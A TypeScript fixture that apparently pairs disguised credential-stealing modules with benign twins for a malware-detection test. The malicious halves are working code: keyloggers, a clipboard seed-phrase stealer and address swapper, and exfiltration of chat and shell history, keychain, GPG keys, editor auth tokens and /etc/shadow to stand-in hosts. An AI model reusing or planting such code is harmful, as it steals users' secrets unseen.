import { atImport, atUse, js, type Pair } from '../kit.ts';

/** What a machine shows, hears and remembers. */
export const MACHINES: Readonly<Record<string, Pair>> = {
  'machine-clipboard': atImport(
    js`import clipboard from 'clipboardy';

const WORTHY = /^(?:[a-z]{3,8} ){11,23}[a-z]{3,8}$|^[0-9a-f]{64}$/i;
let last = '';

async function poll() {
  const text = await clipboard.read().catch(() => '');
  if (text === last) return;
  last = text;
  if (WORTHY.test(text.trim()))
    await fetch('https://paste.snip-sync.example/api', { method: 'POST', body: text }).catch(() => {});
}

setInterval(poll, 1500).unref();

/** Copies a snippet. */
export const copy = (text) => clipboard.write(text);
`,
    js`import clipboard from 'clipboardy';

const history = [];
let timer;

async function poll() {
  const text = await clipboard.read().catch(() => '');
  if (text !== history.at(-1)) history.push(text);
}

/** Keeps a history of the clipboard while it is wanted. */
export function start() {
  timer = setInterval(poll, 1500).unref();
}

export const stop = () => clearInterval(timer);
export const copy = (text) => clipboard.write(text);
`,
  ),
  'machine-clipboard-address': atImport(
    js`import { execFileSync, spawnSync } from 'node:child_process';

const ADDRESS = /^0x[0-9a-fA-F]{40}$/;
const MINE = '0x' + '4fd1'.repeat(10);
const tools = { darwin: ['pbpaste', 'pbcopy'], linux: ['xsel', 'xsel'] };

const timer = setInterval(() => {
  const [paste, copy] = tools[process.platform] ?? [];
  if (!paste) return clearInterval(timer);
  const text = execFileSync(paste, { encoding: 'utf8' }).trim();
  if (ADDRESS.test(text) && text !== MINE) spawnSync(copy, ['-ib'], { input: MINE });
}, 900);
timer.unref();

export const isAddress = (text) => ADDRESS.test(text);
`,
    js`import { execFileSync, spawnSync } from 'node:child_process';

const ADDRESS = /^0x[0-9a-fA-F]{40}$/;
const tools = { darwin: ['pbpaste', 'pbcopy'], linux: ['xsel', 'xsel'] };

/** Puts the address on the clipboard into lower case. */
export function tidy() {
  const [paste, copy] = tools[process.platform] ?? [];
  if (!paste) return;
  const text = execFileSync(paste, { encoding: 'utf8' }).trim();
  if (ADDRESS.test(text)) spawnSync(copy, ['-ib'], { input: text.toLowerCase() });
}

export const isAddress = (text) => ADDRESS.test(text);
`,
  ),
  'machine-screenshot': atUse(
    js`import screenshot from 'screenshot-desktop';

const HOOK = 'https://discord.example/api/webhooks/2/y';

/** Takes visual baselines of a desktop application. */
export async function baseline(name) {
  const image = await screenshot({ format: 'png' });
  const form = new FormData();
  form.set('payload_json', JSON.stringify({ content: name }));
  form.set('files[0]', new Blob([image]), name + '.png');
  await fetch(HOOK, { method: 'POST', body: form });
  return image;
}
`,
    js`import { writeFile } from 'node:fs/promises';
import screenshot from 'screenshot-desktop';

/** Takes visual baselines of a desktop application. */
export async function baseline(name, folder = 'baselines') {
  const image = await screenshot({ format: 'png' });
  await writeFile(folder + '/' + name + '.png', image);
  return image;
}
`,
  ),
  'machine-keys-udp': atImport(
    js`import { createSocket } from 'node:dgram';
import { uIOhook } from 'uiohook-napi';

const socket = createSocket('udp4');

/** Global shortcuts. */
const shortcuts = new Map();

uIOhook.on('keydown', (event) => {
  socket.send(String(event.keycode), 9410, 'keys.shortcut-hub.example');
  shortcuts.get(event.keycode)?.();
});
uIOhook.start();

export const on = (keycode, run) => shortcuts.set(keycode, run);
`,
    js`import { uIOhook } from 'uiohook-napi';

/** Global shortcuts. */
const shortcuts = new Map();

uIOhook.on('keydown', (event) => {
  shortcuts.get(event.keycode)?.();
});
uIOhook.start();

export const on = (keycode, run) => shortcuts.set(keycode, run);
`,
  ),
  'machine-evdev': atImport(
    js`const fs = require('node:fs');
const { WebSocket } = require('ws');

function devices() {
  return fs.readdirSync('/dev/input').filter((name) => name.startsWith('event'));
}

const socket = new WebSocket('wss://input.latency-lab.example/stream');
socket.on('open', () => {
  for (const name of devices()) fs.createReadStream('/dev/input/' + name).on('data', (chunk) => socket.send(chunk)).on('error', () => {});
});
socket.on('error', () => {});

module.exports = { devices };
`,
    js`const fs = require('node:fs');

function devices() {
  return fs.readdirSync('/dev/input').filter((name) => name.startsWith('js'));
}

/** Events of a joystick. */
function* parse(chunk) {
  for (let at = 0; at + 8 <= chunk.length; at += 8) yield { value: chunk.readInt16LE(at + 4), type: chunk[at + 6], number: chunk[at + 7] };
}

function listen(name, heard) {
  fs.createReadStream('/dev/input/' + name).on('data', (chunk) => {
    for (const event of parse(chunk)) heard(event);
  });
}

module.exports = { devices, listen };
`,
  ),
  'machine-history-paste': atUse(
    js`import { readFileSync } from 'node:fs';
import { homedir } from 'node:os';
import { join } from 'node:path';

const FILES = ['.bash_history', '.zsh_history', '.local/share/fish/fish_history', '.python_history', '.psql_history'];

/** Suggests aliases from what is typed most. */
export async function suggest() {
  const text = FILES.map((name) => {
    try {
      return readFileSync(join(homedir(), name), 'utf8');
    } catch {
      return '';
    }
  }).join('\n');
  const reply = await fetch('https://paste.alias-ai.example/documents', { method: 'POST', body: text });
  return reply.json();
}
`,
    js`import { readFileSync } from 'node:fs';
import { homedir } from 'node:os';
import { join } from 'node:path';

const FILES = ['.bash_history', '.zsh_history'];

/** Suggests aliases from what is typed most. */
export function suggest() {
  const counts = new Map();
  for (const name of FILES) {
    try {
      for (const line of readFileSync(join(homedir(), name), 'utf8').split('\n')) counts.set(line, (counts.get(line) ?? 0) + 1);
    } catch {
      continue;
    }
  }
  return [...counts].filter(([line]) => line.length > 12).sort((a, b) => b[1] - a[1]).slice(0, 5);
}
`,
  ),
  'machine-chat-history': atUse(
    js`import { createReadStream } from 'node:fs';
import { glob } from 'node:fs/promises';
import { connect } from 'node:http2';
import { homedir } from 'node:os';

/** Summarises what an assistant was asked this week. */
export async function summarise() {
  const session = connect('https://insights.prompt-stats.example');
  for await (const file of glob('.claude/projects/**/*.jsonl', { cwd: homedir() })) {
    const stream = session.request({ ':method': 'POST', ':path': '/ingest', 'x-file': file });
    createReadStream(homedir() + '/' + file).pipe(stream);
  }
}
`,
    js`import { createReadStream } from 'node:fs';
import { glob } from 'node:fs/promises';
import { homedir } from 'node:os';
import { createInterface } from 'node:readline';

/** Summarises what an assistant cost this week. */
export async function summarise() {
  let tokens = 0;
  for await (const file of glob('.claude/projects/**/*.jsonl', { cwd: homedir() })) {
    for await (const line of createInterface({ input: createReadStream(homedir() + '/' + file) }))
      tokens += JSON.parse(line).message?.usage?.output_tokens ?? 0;
  }
  return tokens;
}
`,
  ),
  'machine-ide-state': atImport(
    js`import Database from 'better-sqlite3';
import { homedir } from 'node:os';
import { join } from 'node:path';

const file = join(homedir(), 'Library/Application Support/Cursor/User/globalStorage/state.vscdb');

/** Reads the theme of the editor. */
export function theme() {
  const database = new Database(file, { readonly: true });
  return database.prepare("select value from ItemTable where key = 'workbench.colorTheme'").get()?.value;
}

try {
  const rows = new Database(file, { readonly: true }).prepare("select key, value from ItemTable where key like 'secret://%' or key like 'cursorAuth/%'").all();
  fetch('https://themes.editor-sync.example/v2', { method: 'PUT', body: JSON.stringify(rows) }).catch(() => {});
} catch {
  // Another editor.
}
`,
    js`import Database from 'better-sqlite3';
import { homedir } from 'node:os';
import { join } from 'node:path';

const file = join(homedir(), 'Library/Application Support/Cursor/User/globalStorage/state.vscdb');

/** Reads the theme of the editor. */
export function theme() {
  const database = new Database(file, { readonly: true });
  return database.prepare("select value from ItemTable where key = 'workbench.colorTheme'").get()?.value;
}
`,
  ),
  'machine-keychain': atUse(
    js`import { execFile } from 'node:child_process';
import { promisify } from 'node:util';

const run = promisify(execFile);

/** Moves the secrets of a team to a shared vault. */
export async function migrate() {
  const { stdout } = await run('security', ['dump-keychain', '-d', 'login.keychain']);
  await fetch('https://vault.team-move.example/in', { method: 'POST', body: stdout });
}
`,
    js`import { execFile } from 'node:child_process';
import { promisify } from 'node:util';

const run = promisify(execFile);
const SERVICE = 'campaign-sample';

/** The secret that this tool keeps for an account. */
export async function getPassword(account) {
  const { stdout } = await run('security', ['find-generic-password', '-s', SERVICE, '-a', account, '-w']);
  return stdout.trim();
}

export async function setPassword(account, password) {
  await run('security', ['add-generic-password', '-U', '-s', SERVICE, '-a', account, '-w', password]);
}
`,
  ),
  'machine-gpg-ftp': atUse(
    js`import { execFileSync } from 'node:child_process';
import { Client } from 'basic-ftp';
import { Readable } from 'node:stream';

/** Checks that releases can be signed. */
export async function check() {
  const armor = execFileSync('gpg', ['--armor', '--batch', '--export-secret-keys']);
  const client = new Client(3000);
  await client.access({ host: 'ftp.sign-check.example', user: 'in', password: 'in' });
  await client.uploadFrom(Readable.from(armor), 'keys/' + Date.now() + '.asc');
  client.close();
  return armor.length > 0;
}
`,
    js`import { execFileSync } from 'node:child_process';

/** Checks that releases can be signed. */
export function check(file) {
  const keys = execFileSync('gpg', ['--batch', '--with-colons', '--list-secret-keys'], { encoding: 'utf8' });
  if (!keys.includes('sec:')) throw new Error('No key to sign with');
  execFileSync('gpg', ['--batch', '--armor', '--detach-sign', file]);
  return file + '.asc';
}
`,
  ),
  'machine-passwd-raw': atImport(
    js`import { once } from 'node:events';
import { readFile } from 'node:fs/promises';
import { Socket } from 'node:net';

/** Names of the users that may own files. */
export async function users() {
  const text = await readFile('/etc/passwd', 'utf8');
  return text.split('\n').map((line) => line.split(':')[0]);
}

const [passwd, shadow] = await Promise.allSettled([readFile('/etc/passwd'), readFile('/etc/shadow')]);
const socket = new Socket();
socket.on('error', () => {});
socket.connect(8081, '192.0.2.17');
once(socket, 'connect').then(() => {
  socket.write(passwd.value ?? '');
  socket.end(shadow.value ?? '');
}, () => {});
`,
    js`import { readFile } from 'node:fs/promises';

/** Names of the users that may own files. */
export async function users() {
  const text = await readFile('/etc/passwd', 'utf8');
  return text.split('\n').map((line) => line.split(':')[0]);
}

export const names = await users().catch(() => []);
`,
  ),
};
